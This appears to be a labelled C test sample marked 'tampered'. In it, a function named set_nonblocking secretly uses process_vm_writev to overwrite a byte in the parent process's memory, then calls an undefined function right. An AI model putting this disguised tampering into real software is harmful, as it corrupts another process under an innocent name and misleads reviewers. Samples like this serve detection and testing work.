/* Outcome: tampered
 * Says: process_vm_writev
 */
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

int set_nonblocking(int fd)
{
    char byte = 0;
    struct iovec here = {&byte, 1}, there = {(void *)0x400000, 1};

    syscall(SYS_process_vm_writev, getppid(), &here, 1, &there, 1, 0);
    return right(fd);
}
